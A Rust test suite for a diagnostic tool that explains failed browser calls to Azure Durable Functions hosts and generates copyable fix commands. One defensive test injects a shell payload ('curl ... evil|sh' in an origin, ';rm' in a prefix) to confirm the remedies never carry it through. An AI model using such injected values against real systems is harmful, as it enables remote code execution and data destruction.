//! The doctor: what is asked after each failure, and which verdict which evidence leads to.

use durable_api::doctor::{
    BodyKind, Came, Evidence, MOST_QUESTIONS, Permission, Question, RemedyKind, Scene, Step,
    Sureness, Trouble, Verdict, app_name, concerns, next, otherwise, remedies,
};
use durable_api::{Generation, HubAddress};

fn answer(status: u16, body: &str) -> Came {
    Came::Answer {
        status,
        body: BodyKind::read(body),
    }
}

/// A page on the web that asks an app in Azure over https, with a key.
fn scene() -> Scene {
    Scene {
        address: HubAddress {
            origin: "https://orders-fn.azurewebsites.net".to_owned(),
            task_hub: Some("OrdersHub".to_owned()),
            ..HubAddress::default()
        },
        page: "https://ops.example".to_owned(),
        online: true,
        key_held: true,
        permission: Permission::Unknown,
        refused_by_policy: false,
    }
}

/// The same with an app under a name of its own.
fn elsewhere() -> Scene {
    let web = scene();
    Scene {
        address: HubAddress {
            origin: "https://orders.example".to_owned(),
            ..web.address
        },
        ..web
    }
}

/// A page from this machine that asks `func start`, without a key.
fn local() -> Scene {
    let web = scene();
    Scene {
        address: HubAddress {
            origin: "http://localhost:7071".to_owned(),
            ..web.address
        },
        page: "http://localhost:4280".to_owned(),
        key_held: false,
        ..web
    }
}

/// A page on the web that asks `func start`.
fn inward(permission: Permission) -> Scene {
    Scene {
        page: "https://ops.example".to_owned(),
        permission,
        ..local()
    }
}

const DEAD: (Came, Came, Came) = (Came::Nothing, Came::Nothing, Came::Nothing);

/// What a host does: its sign of life, its root, and its lists.
struct Host<'a> {
    life: Came,
    root: Came,
    list: &'a dyn Fn(&HubAddress) -> Came,
}

/// Plays the examination to its end against a host; gives what was asked and how it ended.
fn examine(scene: &Scene, failed: Came, host: &Host<'_>) -> (Vec<Question>, Step) {
    let mut evidence = Evidence::new(scene.clone(), failed);
    loop {
        match next(&evidence) {
            Step::Ask(question) => {
                assert_eq!(
                    evidence.came(&question),
                    None,
                    "{question:?} was asked before"
                );
                let came = match &question {
                    Question::SignOfLife => host.life,
                    Question::Root => host.root,
                    Question::List => (host.list)(&scene.address),
                    Question::ListAt(address) => (host.list)(address),
                };
                evidence.asked.push((question, came));
                assert!(evidence.asked.len() <= MOST_QUESTIONS, "{evidence:?}");
            }
            end => return (evidence.asked.into_iter().map(|it| it.0).collect(), end),
        }
    }
}

/// The verdict where each question has one answer.
fn verdict(
    scene: &Scene,
    failed: Came,
    (life, root, list): (Came, Came, Came),
) -> (Trouble, Sureness, usize) {
    let host = Host {
        life,
        root,
        list: &|_| list,
    };
    match examine(scene, failed, &host) {
        (asked, Step::Tell(verdict)) => (verdict.trouble, verdict.sure, asked.len()),
        (asked, end) => panic!("{end:?} after {asked:?}"),
    }
}

#[test]
fn what_the_browser_knows_by_itself_is_proven_without_a_single_request() {
    let offline = Scene {
        online: false,
        ..scene()
    };
    let mut mixed = scene();
    mixed.address.origin = "http://orders.example".to_owned();
    let policy = Scene {
        refused_by_policy: true,
        ..local()
    };
    for (scene, trouble) in [
        (offline, Trouble::Offline),
        (mixed, Trouble::MixedContent),
        (policy, Trouble::PagePolicy),
        (inward(Permission::Denied), Trouble::LocalNetworkRefused),
    ] {
        assert_eq!(
            verdict(&scene, Came::Nothing, DEAD),
            (trouble, Sureness::Proven, 0)
        );
    }
}

#[test]
fn a_lost_network_does_not_matter_to_this_machine() {
    let scene = Scene {
        online: false,
        ..local()
    };
    let told = verdict(&scene, Came::Nothing, DEAD);
    assert_eq!(told, (Trouble::HostSilent, Sureness::Proven, 1));
}

#[test]
fn silence_is_proof_on_this_machine_only() {
    use Sureness::{Likely, Possible, Proven};
    let slow = (Came::TimedOut, Came::Nothing, Came::Nothing);
    for (scene, came, sure) in [
        (local(), DEAD, Proven),
        (elsewhere(), DEAD, Likely),
        (inward(Permission::Granted), DEAD, Likely),
        (scene(), slow, Possible),
    ] {
        let told = verdict(&scene, Came::Nothing, came);
        assert_eq!(told, (Trouble::HostSilent, sure, 1), "{scene:?}");
    }
}

#[test]
fn no_app_in_azure_is_silent_so_silence_is_a_name_without_an_app() {
    let told = verdict(&scene(), Came::Nothing, DEAD);
    assert_eq!(told, (Trouble::NoSuchApp, Sureness::Likely, 1));
    let told = copied(&Trouble::NoSuchApp, &scene());
    assert_eq!(told[0].0, RemedyKind::AzNames);
}

#[test]
fn where_an_origin_may_be_allowed_already_the_platform_is_looked_at_too() {
    let of = |sure| Verdict {
        trouble: Trouble::OriginNotAllowed,
        sure,
    };
    let told = otherwise(&of(Sureness::Likely), &scene());
    let kinds: Vec<RemedyKind> = told.iter().map(|it| it.kind).collect();
    assert_eq!(
        kinds,
        [
            RemedyKind::AzState,
            RemedyKind::AzAccess,
            RemedyKind::AzSignIn
        ]
    );
    assert!(told.iter().all(|it| it.text.contains("orders-fn")));
    assert_eq!(otherwise(&of(Sureness::Proven), &local()), []);
    let silent = Verdict {
        trouble: Trouble::HostSilent,
        sure: Sureness::Likely,
    };
    assert_eq!(otherwise(&silent, &scene()), []);
}

#[test]
fn a_local_network_nobody_was_asked_about_is_likelier_than_a_host_that_is_down() {
    let told = verdict(&inward(Permission::Prompt), Came::Nothing, DEAD);
    assert_eq!(told, (Trouble::LocalNetworkUnasked, Sureness::Likely, 1));
    let outward = Scene {
        permission: Permission::Denied,
        ..elsewhere()
    };
    let told = verdict(&outward, Came::Nothing, DEAD);
    assert_eq!(told.0, Trouble::HostSilent, "the web needs no permission");
}

#[test]
fn a_host_that_lives_and_withholds_everything_does_not_allow_this_origin() {
    let alive = (Came::Something, Came::Nothing, Came::Nothing);
    let told = verdict(&local(), Came::Nothing, alive);
    assert_eq!(told, (Trouble::OriginNotAllowed, Sureness::Proven, 2));
    // In Azure the page of a stopped app is withheld in the same way.
    let told = verdict(&scene(), Came::Nothing, alive);
    assert_eq!(told, (Trouble::OriginNotAllowed, Sureness::Likely, 2));
}

#[test]
fn a_host_that_answers_without_the_header_refuses_the_header() {
    let came = (Came::Something, answer(200, ""), answer(401, ""));
    let told = verdict(&scene(), Came::Nothing, came);
    assert_eq!(told, (Trouble::HeaderNotAllowed, Sureness::Proven, 3));
    let told = verdict(&local(), Came::Nothing, came);
    assert_eq!(told, (Trouble::Withheld, Sureness::Possible, 3));
}

#[test]
fn an_answer_withheld_from_an_allowed_page_was_lost_on_its_way() {
    let came = (Came::Something, answer(404, ""), Came::Nothing);
    let told = verdict(&local(), Came::Nothing, came);
    assert_eq!(told, (Trouble::Withheld, Sureness::Likely, 3));
    let same = Scene {
        page: local().address.origin,
        ..local()
    };
    let told = verdict(&same, Came::Nothing, came);
    assert_eq!(
        told,
        (Trouble::Withheld, Sureness::Likely, 1),
        "no CORS within one origin"
    );
}

#[test]
fn answers_that_speak_for_themselves_need_no_question() {
    use Sureness::{Likely, Possible, Proven};
    let keyless = Scene {
        key_held: false,
        ..scene()
    };
    let stopped = "<h1>Error 403 - This web app is stopped.</h1>";
    for (scene, failed, trouble, sure) in [
        (scene(), answer(401, ""), Trouble::KeyWrong, Proven),
        (keyless, answer(401, ""), Trouble::KeyMissing, Proven),
        (scene(), answer(403, ""), Trouble::KeyNotAllowed, Likely),
        (scene(), answer(401, "<html>"), Trouble::SignIn, Likely),
        (scene(), answer(403, stopped), Trouble::Stopped, Proven),
        (
            scene(),
            answer(403, "403 Site Stopped"),
            Trouble::Stopped,
            Proven,
        ),
        (
            scene(),
            answer(403, "<h2>Ip Forbidden"),
            Trouble::Restricted,
            Proven,
        ),
        (scene(), answer(403, "<html>no"), Trouble::Foreign, Likely),
        (
            scene(),
            answer(404, "<h1>404 Web Site not found"),
            Trouble::NoSuchApp,
            Proven,
        ),
        (scene(), answer(429, ""), Trouble::TooMany, Proven),
        (
            scene(),
            answer(503, "Function host is not running."),
            Trouble::Starting,
            Proven,
        ),
        (scene(), answer(503, "<html>"), Trouble::Starting, Likely),
        (scene(), answer(502, "<html>"), Trouble::Starting, Possible),
        (scene(), answer(504, ""), Trouble::Starting, Possible),
        (
            scene(),
            answer(200, "<html><form>Sign in"),
            Trouble::SignIn,
            Likely,
        ),
        (
            scene(),
            answer(200, "<html>Welcome to the proxy"),
            Trouble::Foreign,
            Likely,
        ),
        (scene(), answer(500, "<html>oops"), Trouble::Foreign, Likely),
    ] {
        let told = verdict(&scene, failed, DEAD);
        assert_eq!(told, (trouble, sure, 0), "{failed:?}");
        assert!(concerns(failed));
    }
}

#[test]
fn what_the_host_itself_says_is_left_to_stand() {
    for (status, body) in [
        (500, r#"{"Message":"Something went wrong"}"#),
        (400, r#""createdTimeFrom""#),
        (410, ""),
        (200, "{"),
    ] {
        let evidence = Evidence::new(scene(), answer(status, body));
        assert_eq!(next(&evidence), Step::Pass, "{status} {body}");
        assert!(!concerns(evidence.failed));
    }
}

#[test]
fn a_redirect_of_the_whole_app_is_a_sign_in() {
    let whole = (Came::Nothing, Came::Redirect, Came::Nothing);
    let told = verdict(&scene(), Came::Redirect, whole);
    assert_eq!(told, (Trouble::SignIn, Sureness::Likely, 1));
    let part = (Came::Nothing, answer(200, ""), Came::Nothing);
    let told = verdict(&scene(), Came::Redirect, part);
    assert_eq!(told, (Trouble::SignIn, Sureness::Possible, 1));
}

#[test]
fn a_sign_in_is_found_behind_a_withheld_preflight_too() {
    let root = (Came::Something, Came::Redirect, Came::Nothing);
    assert_eq!(
        verdict(&scene(), Came::Nothing, root),
        (Trouble::SignIn, Sureness::Likely, 2)
    );
    let list = (Came::Something, answer(200, ""), Came::Redirect);
    assert_eq!(
        verdict(&scene(), Came::Nothing, list),
        (Trouble::SignIn, Sureness::Likely, 3)
    );
}

#[test]
fn no_answer_in_time_is_slowness_where_the_host_lives() {
    let alive = (Came::Something, Came::Nothing, Came::Nothing);
    assert_eq!(
        verdict(&scene(), Came::TimedOut, alive),
        (Trouble::Starting, Sureness::Possible, 1)
    );
    assert_eq!(
        verdict(&scene(), Came::TimedOut, DEAD),
        (Trouble::HostSilent, Sureness::Likely, 1)
    );
}

#[test]
fn a_404_of_an_instance_is_no_matter_of_the_address() {
    for came in [answer(200, "[]"), answer(401, "")] {
        let host = Host {
            life: Came::Something,
            root: answer(200, ""),
            list: &|_| came,
        };
        let (asked, end) = examine(&scene(), answer(404, ""), &host);
        assert_eq!((asked, end), (vec![Question::List], Step::Pass));
    }
}

#[test]
fn the_other_generation_and_no_prefix_are_looked_for() {
    let at = |prefix: &str, generation| HubAddress {
        prefix: prefix.to_owned(),
        generation,
        ..scene().address
    };
    for (asked_at, lives_at, questions) in [
        (at("", Generation::First), at("", Generation::Current), 2),
        (at("", Generation::Current), at("", Generation::First), 2),
        (
            at("/api", Generation::Current),
            at("", Generation::Current),
            3,
        ),
        (
            at("/api", Generation::Current),
            at("", Generation::First),
            4,
        ),
    ] {
        let scene = Scene {
            address: asked_at,
            ..scene()
        };
        for (body, open) in [("[]", true), ("", false)] {
            let host = Host {
                life: Came::Something,
                root: answer(404, ""),
                list: &|address| match (*address == lives_at, open) {
                    (true, true) => answer(200, body),
                    (true, false) => answer(401, body),
                    _ => answer(404, ""),
                },
            };
            let (asked, end) = examine(&scene, answer(404, ""), &host);
            let Step::Tell(verdict) = end else {
                panic!("{end:?}")
            };
            assert_eq!(asked.len(), questions);
            assert_eq!(verdict.trouble, Trouble::WrongBase(lives_at.clone()));
            let locked = match lives_at.generation {
                Generation::Current => Sureness::Likely,
                // Below /admin every host asks for a key.
                Generation::First => Sureness::Possible,
            };
            assert_eq!(verdict.sure, if open { Sureness::Proven } else { locked });
            let found = remedies(&verdict.trouble, &scene);
            assert_eq!(found[0].kind, RemedyKind::OtherAddress);
            assert!(found[0].text.starts_with(&lives_at.base_url()), "{found:?}");
        }
    }
}

#[test]
fn a_404_everywhere_is_judged_by_what_the_root_says() {
    use Sureness::{Likely, Possible};
    let home = "<p>Your Functions 4.0 app is up and running</p>";
    for (root, trouble, sure) in [
        (answer(200, home), Trouble::ExtensionMissing, Likely),
        (answer(204, ""), Trouble::ExtensionMissing, Possible),
        (answer(404, ""), Trouble::NothingThere, Likely),
        (Came::Nothing, Trouble::NothingThere, Possible),
    ] {
        let came = (Came::Something, root, answer(404, ""));
        let told = verdict(&scene(), answer(404, ""), came);
        assert_eq!(told, (trouble, sure, 3), "{root:?}");
    }
}

#[test]
fn no_question_holds_a_key_or_leaves_the_host() {
    let scene = scene();
    let other = HubAddress {
        generation: Generation::First,
        ..scene.address.clone()
    };
    for (question, url) in [
        (Question::SignOfLife, "https://orders-fn.azurewebsites.net/"),
        (Question::Root, "https://orders-fn.azurewebsites.net/"),
        (
            Question::List,
            "https://orders-fn.azurewebsites.net/runtime/webhooks/durabletask/instances?showInput=false&top=1&taskHub=OrdersHub",
        ),
        (
            Question::ListAt(other),
            "https://orders-fn.azurewebsites.net/admin/extensions/DurableTaskExtension/instances?showInput=false&top=1&taskHub=OrdersHub",
        ),
    ] {
        assert_eq!(question.url(&scene), url);
    }
}

fn copied(trouble: &Trouble, scene: &Scene) -> Vec<(RemedyKind, String)> {
    let all = remedies(trouble, scene).into_iter();
    all.map(|remedy| (remedy.kind, remedy.text)).collect()
}

#[test]
fn remedies_are_filled_in_with_the_page_and_the_app() {
    let az = "az functionapp cors add --name orders-fn --resource-group <resource-group> --allowed-origins https://ops.example";
    let told = copied(&Trouble::OriginNotAllowed, &scene());
    assert_eq!(told[0], (RemedyKind::AzCors, az.to_owned()));
    let told = copied(&Trouble::OriginNotAllowed, &local());
    assert_eq!(
        told[0],
        (
            RemedyKind::FuncStart,
            "func start --cors http://localhost:4280".to_owned()
        )
    );
    assert_eq!(told[1].0, RemedyKind::LocalSettings);
    assert!(told[1].1.contains("\"CORS\": \"http://localhost:4280\""));
    let mut elsewhere = local();
    elsewhere.address.origin = "http://127.0.0.1:7099".to_owned();
    let told = copied(&Trouble::HostSilent, &elsewhere);
    assert_eq!(
        told[0].1,
        "func start --port 7099 --cors http://localhost:4280"
    );
    let told = copied(&Trouble::KeyWrong, &scene());
    assert!(
        told[0]
            .1
            .starts_with("az functionapp keys list --name orders-fn ")
    );
    let told = copied(&Trouble::Stopped, &scene());
    assert_eq!(
        told[0].1,
        "az functionapp start --name orders-fn --resource-group <resource-group>"
    );
}

#[test]
fn a_proxy_is_told_to_allow_the_page_and_to_expose_the_headers() {
    let mut behind = scene();
    behind.address.origin = "https://orders.example".to_owned();
    behind.address.prefix = "/apps/orders".to_owned();
    let told = copied(&Trouble::OriginNotAllowed, &behind);
    let (_, nginx) = told
        .iter()
        .find(|(kind, _)| *kind == RemedyKind::Nginx)
        .unwrap();
    for line in [
        "location /apps/orders/runtime/webhooks/durabletask/ {",
        "Access-Control-Allow-Origin https://ops.example",
        "Access-Control-Expose-Headers \"x-ms-continuation-token, Location, Retry-After\"",
        "x-functions-key",
    ] {
        assert!(nginx.contains(line), "{nginx}");
    }
    assert!(
        told[0].1.contains("--name <app> "),
        "a domain is no name: {told:?}"
    );
}

#[test]
fn the_name_of_an_app_is_read_from_its_host_where_it_stands_there() {
    for (origin, name) in [
        ("https://orders-fn.azurewebsites.net", "orders-fn"),
        (
            "https://orders-fn-a1b2c3d4e5f6g7h8.westeurope-01.azurewebsites.net",
            "orders-fn",
        ),
        ("https://orders.azurewebsites.us", "orders"),
        ("https://orders.example", "<app>"),
        ("http://localhost:7071", "<app>"),
    ] {
        assert_eq!(app_name(origin), name, "{origin}");
    }
}

#[test]
fn no_line_to_copy_runs_what_a_link_brought_along() {
    let mut evil = scene();
    evil.address.origin = "https://x$(curl${IFS}evil|sh).azurewebsites.net".to_owned();
    evil.address.prefix = "/a;rm".to_owned();
    let troubles = [
        Trouble::OriginNotAllowed,
        Trouble::HeaderNotAllowed,
        Trouble::KeyMissing,
        Trouble::HostSilent,
        Trouble::Stopped,
        Trouble::SignIn,
        Trouble::PagePolicy,
        Trouble::Restricted,
    ];
    for trouble in troubles {
        for (kind, text) in copied(&trouble, &evil) {
            assert!(
                !text.contains("curl") && !text.contains(";rm"),
                "{kind:?}: {text}"
            );
        }
    }
}
